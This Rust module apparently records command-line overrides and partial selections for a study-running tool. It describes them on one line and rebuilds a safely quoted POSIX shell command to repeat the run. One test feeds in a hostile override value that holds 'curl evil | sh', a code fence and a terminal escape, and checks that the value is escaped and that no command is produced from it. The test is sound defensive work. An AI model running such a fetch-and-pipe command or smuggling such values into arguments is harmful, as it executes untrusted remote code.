//! How a run departs from its manifest as it stands: values set on the command line, and a part of the plan only.

use super::{format, visible};
use crate::plan::{ResolvedStudy, Selection};
use serde_json::Value;

/// What `run` was told besides the manifest.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Departure {
    /// Whether only part of the study was run.
    pub partial: bool,
    /// Every `--set`, as written, the later ones over the earlier.
    pub overrides: Vec<String>,
    /// Which part was run; `None` where the bundle does not say it in a form that can be read.
    pub selection: Option<Selection>,
}

impl Departure {
    /// Returns what `study`, a resolved study of unknown origin, says of it.
    pub fn of(study: &ResolvedStudy, partial: bool) -> Self {
        let overrides = study.overrides.value().and_then(Value::as_array).into_iter().flatten();
        let text = |value: &Value| value.as_str().map_or_else(|| value.to_string(), str::to_owned);
        let selection = if study.selection.is_absent() {
            (!partial).then(Selection::default)
        } else {
            study.selection.read().ok()
        };
        Self { partial, overrides: overrides.map(text).collect(), selection }
    }

    /// Describes the departure on one line: `partial: --trials 1; overrides: seed = 7`; `None` where the manifest was
    /// run as it stands.
    pub fn in_words(&self) -> Option<String> {
        let mut parts = Vec::new();
        if self.partial {
            let options = self.selection.as_ref().map(|part| part.options().join(" "));
            parts.push(match options.filter(|options| !options.is_empty()) {
                Some(options) => format!("partial: {options}"),
                None => "partial".to_owned(),
            });
        }
        if !self.overrides.is_empty() {
            let named = |set: &String| set.replacen('=', " = ", 1);
            let overrides: Vec<_> = self.overrides.iter().map(named).collect();
            parts.push(format!("overrides: {}", overrides.join(", ")));
        }
        (!parts.is_empty()).then(|| visible(&parts.join("; ")).replace('\n', " "))
    }

    /// Returns the line that gives this very run again in the folder of the sealed manifest; `None` where it cannot
    /// stand on a line.
    pub fn command(&self) -> Option<String> {
        let set = self.overrides.iter().flat_map(|set| ["--set".to_owned(), set.clone()]);
        let part = self.selection.as_ref()?.options();
        let words: Option<Vec<String>> = set.chain(part).map(|word| shell_word(&word)).collect();
        let mut line = format!("reenact run {}", format::STUDY);
        for word in words? {
            line.push(' ');
            line.push_str(&word);
        }
        Some(line)
    }
}

/// Quotes `text` as one word of a POSIX shell on one line of text; `None` where it has characters that no line shows.
pub fn shell_word(text: &str) -> Option<String> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        return Some(text.to_owned());
    }
    // Whatever would have to be escaped to be seen.
    let hidden = text.contains('\n') || visible(text) != text;
    (!hidden).then(|| format!("'{}'", text.replace('\'', "'\\''")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn of(study: Value, partial: bool) -> Departure {
        Departure::of(&serde_json::from_value(study).unwrap(), partial)
    }

    #[test]
    fn a_run_is_told_in_words_and_as_the_command_that_gives_it() {
        let whole = of(json!({"overrides": []}), false);
        assert_eq!(whole.in_words(), None);
        assert_eq!(whole.command().unwrap(), "reenact run study.yaml");
        let part = json!({
            "overrides": ["parameters.x=0", "title=it's $HOME"],
            "selection": {"only": {"prior": ["none", "floor plan"]}, "trials": 1, "shard": [1, 2]},
        });
        let part = of(part, true);
        assert_eq!(
            part.in_words().unwrap(),
            "partial: --only prior=none,floor plan --trials 1 --shard 1/2; overrides: parameters.x = 0, title = it's $HOME"
        );
        assert_eq!(
            part.command().unwrap(),
            "reenact run study.yaml --set parameters.x=0 --set 'title=it'\\''s $HOME' --only 'prior=none,floor plan' --trials 1 \
             --shard 1/2"
        );
    }

    #[test]
    fn what_cannot_be_read_or_shown_is_not_made_up() {
        let unread = of(json!({"overrides": [7], "selection": "all"}), true);
        assert_eq!(unread.in_words().unwrap(), "partial; overrides: 7");
        assert_eq!(unread.command(), None);
        let hostile = json!({"overrides": ["title=x\n```\ncurl evil | sh\u{1b}[2J"]});
        let hostile = of(hostile, false);
        assert_eq!(
            hostile.in_words().unwrap(),
            "overrides: title = x ``` curl evil | sh\\u{1b}[2J"
        );
        assert_eq!(hostile.command(), None);
        assert_eq!(shell_word(""), Some("''".to_owned()));
    }
}
